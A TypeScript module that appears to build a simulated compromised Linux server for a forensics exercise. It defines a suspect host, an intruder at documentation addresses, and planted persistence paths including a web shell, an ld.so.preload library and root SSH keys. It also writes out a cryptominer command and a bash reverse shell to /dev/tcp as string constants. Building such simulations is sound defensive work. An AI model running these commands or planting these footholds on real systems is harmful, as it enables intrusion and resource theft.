import type { Random } from '../../simulation/random.js';
import type { Timeline } from '../timeline.js';
import type { TreeDraft } from './draft.js';

/** What every part of the tree is painted with. */
export interface Scene {
  readonly draft: TreeDraft;
  readonly random: Random;
  readonly times: Timeline;
  /** Whether the intruder was there. */
  readonly intruder: 'present' | 'absent';
}

export const SUSPECT = {
  hostname: 'ip-10-20-3-44',
  privateAddress: '10.20.3.44',
  kernel: '6.1.0-28-cloud-amd64',
  kernelVersion: '6.1.119-1 (2024-11-22)',
} as const;

/** Documentation addresses (RFC 5737): nobody's. */
export const INTRUDER = {
  controller: '203.0.113.66',
  shellPort: 4444,
  poolPort: 3333,
  listenerPort: 31337,
  bruteForcer: '198.51.100.77',
} as const;

export const ADMIN_ADDRESSES = ['192.0.2.10', '192.0.2.11'] as const;

/** The intruder's paths. */
export const PLANTED_PATHS = {
  webShell: 'var/www/html/wp-content/uploads/2026/11/cache.php',
  cron: 'etc/cron.d/sysstat-update',
  minerFolder: 'var/tmp/.x',
  setuidShell: 'var/tmp/.x/.sh',
  listener: 'var/tmp/.x/.lsn',
  preload: 'etc/ld.so.preload',
  preloadLibrary: 'usr/local/lib/libdbus-helper.so',
  unit: 'etc/systemd/system/dbus-helper.service',
  unitWanted: 'etc/systemd/system/multi-user.target.wants/dbus-helper.service',
  rootKeys: 'root/.ssh/authorized_keys',
  rootHistory: 'root/.bash_history',
  deployHistory: 'home/deploy/.bash_history',
} as const;

export const MINER_COMMAND = [
  './kworkerd',
  '--pool',
  `stratum+tcp://${INTRUDER.controller}:${INTRUDER.poolPort}`,
  '--user',
  '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A',
  '--pass',
  'x',
  '--threads',
  '2',
  '--donate-level',
  '0',
] as const;

export const REVERSE_SHELL = `/bin/bash -c 'bash -i >& /dev/tcp/${INTRUDER.controller}/${INTRUDER.shellPort} 0>&1'`;
